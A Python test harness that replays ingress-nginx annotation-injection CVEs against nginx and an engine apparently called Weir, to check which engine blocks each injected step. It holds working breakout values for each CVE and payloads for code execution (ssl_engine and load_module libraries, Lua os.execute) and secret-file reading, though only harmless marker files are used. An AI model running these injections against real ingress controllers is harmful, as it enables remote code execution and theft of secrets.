#!/usr/bin/env python3
"""The injection holes of ingress-nginx, replayed on engines: what text that slipped into the configuration can do.

    injection.py --engine NAME=PATH[,LINE...] [--engine ...]

Each hole is the line of the controller's template in which the value of an annotation landed, and a value that leaves it.
What follows are the steps that attacks took. PATH is nginx or Weir; a LINE is put at the top of its configuration. The
controller is not needed: its last versions have closed all of these holes.
"""
import argparse
import http.client
import os
import re
import signal
import socket
import subprocess
import tempfile
import time
from pathlib import Path

# By hole: the line, and the beginning of a value that ends it and all blocks around it.
HOLES = {
    "CVE-2023-5044 permanent-redirect": ("location / { return 301 %s; }", "http://x;"),
    "CVE-2024-7646 a carriage return": ("location / { set $own %s; }", "a;\r"),
    "CVE-2025-1097 auth-tls-match-cn": ("location / { if ( $http_a !~ %s ) { return 403; } }", "CN=a ) { return 403; }"),
    "CVE-2025-1098 mirror, by the UID": ("location / { mirror %s; }", "/_mirror-1;"),
    "CVE-2025-24514 auth-url": ("location / { set $target %s; }", "http://x/#;"),
    "CVE-2025-15566 auth-proxy-set-headers": ("location / { proxy_set_header 'A' '%s'; }", "a';"),
    "CVE-2026-1580 auth-method": ("location / { proxy_method %s; }", "GET;"),
    "CVE-2026-24512 a path": ('location "%s" { return 200; }', '/" { return 200;'),
    "CVE-2026-3288 rewrite-target": ('location / { rewrite "(?i)/a" %s break; }', "/b break;"),
}

# What is done then: where the text belongs, and when it works.
STEPS = {
    "a library that `ssl_engine` names (CVE-2025-1974)": ("main", "ssl_engine %(library)s;", "test"),
    "a library that `load_module` names": ("main", "load_module %(library)s;", "test"),
    "a program, by `init_by_lua_block`": ("http", "init_by_lua_block { os.execute('touch %(mark)s') }", "start"),
    "a program, by Lua for a request": (
        "server",
        "location /evil { content_by_lua_block { os.execute('touch %(mark)s') ngx.say(1) } }",
        "request",
    ),
    "a program, by a Lua file that was uploaded": ("server", "location /evil { content_by_lua_file %(script)s; }", "request"),
    "a library in C, by Lua": (
        "server",
        "location /evil { content_by_lua_block { package.cpath = '%(library)s' pcall(require, 'evil') } }",
        "request",
    ),
    "a secret, by Lua": (
        "server",
        "location /evil { content_by_lua_block { ngx.print(io.open('%(secret)s'):read('*a')) } }",
        "secret",
    ),
    "a secret, by `alias`": ("server", "location /evil { alias %(secret)s; }", "secret"),
    "a secret, by `root`": ("server", "location %(secret)s { root /; }", "secret"),
}
CODE = '#include <fcntl.h>\n__attribute__((constructor)) static void run(void) { open("%s", O_CREAT, 0600); }\n'


class Replay:
    """One engine, with a folder of its own."""

    def __init__(self, path, lines, folder):
        self.path, self.lines, self.folder = path, lines, folder
        self.names = {
            "mark": folder / "mark",
            "library": folder / "evil.so",
            "script": folder / "evil.lua",
            "secret": folder / "secrets/token",
        }
        (folder / "secrets").mkdir()
        self.names["secret"].write_text("a secret")
        self.names["script"].write_text(f"os.execute('touch {self.names['mark']}') ngx.say(1)")
        words = ["cc", "-shared", "-fPIC", "-x", "c", "-", "-o", self.names["library"]]
        subprocess.run(words, input=(CODE % self.names["mark"]).encode(), check=True)
        # The template has such a line, and there can be only one.
        (folder / "lua.conf").write_text("events { } http { init_by_lua_block { } }")
        tested = subprocess.run([path, "-t", "-p", folder, "-c", folder / "lua.conf"], capture_output=True, check=False)
        self.first = "" if b"unknown directive" in tested.stderr else "init_by_lua_block { }"

    def configuration(self, hole, step, port):
        """A configuration as the template makes one, with the injected text in it."""
        line, begin = HOLES[hole]
        where, text, _ = STEPS[step]
        text %= self.names
        if where == "main":
            text = f"}} }} {text} http {{ server {{ listen 127.0.0.1:{port + 1};"
        elif where == "http":
            text = f"}} {text} server {{ listen 127.0.0.1:{port + 1};"
        # The location is closed before, and another one opened for what follows in the template's line.
        value = f"{begin} }} {text} location /rest {{ #"
        broken = (line % value).replace("\r", "\n")
        own = "\n".join(f"{one};" for one in self.lines)
        return (
            f"{own}\ndaemon off; pid {self.folder}/pid; error_log stderr;\nevents {{ }}\nhttp {{ access_log off; {self.first}\n"
            f"client_body_temp_path {self.folder}/body; proxy_temp_path {self.folder}/proxy; fastcgi_temp_path {self.folder}/fastcgi;\n"
            f"server {{ listen 127.0.0.1:{port};\n{broken}\n}}\n}}\n}}\n"
        )

    def run(self, hole, step):
        """What came of a step: `done`, or why not."""
        self.names["mark"].unlink(missing_ok=True)
        with socket.create_server(("127.0.0.1", 0)) as own:
            port = own.getsockname()[1]
        name = self.folder / "nginx.conf"
        name.write_text(self.configuration(hole, step, port))
        tested = subprocess.run(
            [self.path, "-t", "-p", self.folder, "-c", name], capture_output=True, text=True, timeout=60, check=False
        )
        if self.names["mark"].exists():
            return "done, by `-t`"
        if tested.returncode:
            first = next((one for one in tested.stderr.splitlines() if "[emerg]" in one), tested.stderr)
            reason = re.sub(r".*\[emerg\] (\d+#\d+: )?", "", first).partition(" in /")[0]
            return "refused by `-t`: " + re.sub(r"/[^ \"]*/", "", reason)[:70]
        return self.serve(step, name, port)

    def serve(self, step, name, port):
        """The same for a step that needs a running server."""
        kind = STEPS[step][2]
        server = subprocess.Popen(
            [self.path, "-p", self.folder, "-c", name], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
        )
        try:
            body = self.ask(str(self.names["secret"]) if "`root`" in step else "/evil", port)
        finally:
            server.send_signal(signal.SIGTERM)
            said = server.communicate(timeout=30)[1]
        if self.names["mark"].exists() or (kind == "secret" and b"a secret" in body):
            return "**done**"
        if "denied by worker_sandbox" in said:
            return "denied by `worker_sandbox`"
        return f"not done ({body[:40]!r})"

    @staticmethod
    def ask(path, port):
        """The answer to a request, as soon as the server listens."""
        end = time.monotonic() + 20
        while time.monotonic() < end:
            try:
                client = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
                client.request("GET", path)
                return client.getresponse().read()
            except ConnectionRefusedError:
                time.sleep(0.05)
            except (OSError, http.client.HTTPException) as error:
                return repr(error).encode()
        return b"it does not listen"


def main():
    """Prints a table by step, and one by hole."""
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("--engine", action="append", required=True, metavar="NAME=PATH[,LINE...]")
    options = options.parse_args()
    with tempfile.TemporaryDirectory(prefix="weir-injection-") as folder:
        os.chmod(folder, 0o755)
        engines = {}
        for number, engine in enumerate(options.engine):
            name, _, rest = engine.partition("=")
            path, *lines = rest.split(",")
            own = Path(folder) / str(number)
            own.mkdir()
            # What runs in the worker must be able to leave its mark.
            own.chmod(0o777)
            engines[name] = Replay(path, lines, own)
        print("| what the text does | " + " | ".join(engines) + " |\n|---|" + "---|" * len(engines))
        for step in STEPS:
            print(f"| {step} | " + " | ".join(one.run("CVE-2025-24514 auth-url", step) for one in engines.values()) + " |", flush=True)
        first, second = "a library that `ssl_engine` names (CVE-2025-1974)", "a program, by Lua for a request"
        print("\n| hole | " + " | ".join(f"{name}: `ssl_engine`, Lua" for name in engines) + " |\n|---|" + "---|" * len(engines))
        for hole in HOLES:
            found = (f"{one.run(hole, first)}; {one.run(hole, second)}" for one in engines.values())
            print(f"| {hole} | " + " | ".join(found) + " |", flush=True)


if __name__ == "__main__":
    main()
